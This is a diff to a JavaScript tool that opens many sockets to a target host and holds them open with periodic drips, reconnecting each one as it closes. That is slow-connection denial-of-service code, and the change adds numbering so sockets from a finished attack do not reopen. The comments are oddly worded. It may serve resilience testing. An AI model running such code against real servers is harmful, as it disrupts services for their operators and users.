@@ -30,11 +30,13 @@ const KINDS = {
 /** He is elsewhere in life: he must not take the processor from the database and the service. */
 const LOW_PRIORITY = 10;
 const open = new Set();
-let isOn = false;
+/** Which attack is on; 0: none. What was to be opened again for one that is over is not. */
+let current = 0;
+let begun = 0;
 let opened = 0;
 
-function hold(address, kind) {
-  if (!isOn) return;
+function hold(address, kind, attack) {
+  if (attack !== current) return;
   const socket = connect(address);
   opened += 1;
   open.add(socket);
@@ -46,22 +48,22 @@ function hold(address, kind) {
   socket.on('close', () => {
     clearInterval(drip);
     open.delete(socket);
-    setTimeout(hold, AGAIN_MS, address, kind);
+    setTimeout(hold, AGAIN_MS, address, kind, attack);
   });
 }
 
 function begin({ url, kind, sockets }) {
   const { hostname: host, port } = new URL(url);
-  isOn = true;
+  current = begun += 1;
   opened = 0;
   const address = { host, port: Number(port) };
   for (let each = 0; each < sockets; each += 1)
-    setTimeout(hold, (each * OPENED_WITHIN_MS) / sockets, address, KINDS[kind]);
+    setTimeout(hold, (each * OPENED_WITHIN_MS) / sockets, address, KINDS[kind], current);
   return {};
 }
 
 function end() {
-  isOn = false;
+  current = 0;
   const held = open.size;
   for (const socket of open) socket.destroy();
   return { held, opened };
